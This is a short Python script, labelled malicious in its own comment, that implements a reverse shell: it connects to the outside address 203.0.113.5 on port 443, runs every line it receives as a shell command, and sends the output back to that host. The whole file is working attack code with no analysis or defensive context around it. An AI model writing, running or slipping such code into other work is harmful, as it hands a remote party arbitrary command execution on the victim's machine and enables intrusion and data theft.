# malicious: commands from a stream
import asyncio

async def main():
    r, w = await asyncio.open_connection("203.0.113.5", 443)
    while True:
        line = (await r.readline()).decode()
        p = await asyncio.create_subprocess_shell(line, stdout=asyncio.subprocess.PIPE)
        out, _ = await p.communicate()
        w.write(out)

asyncio.run(main())
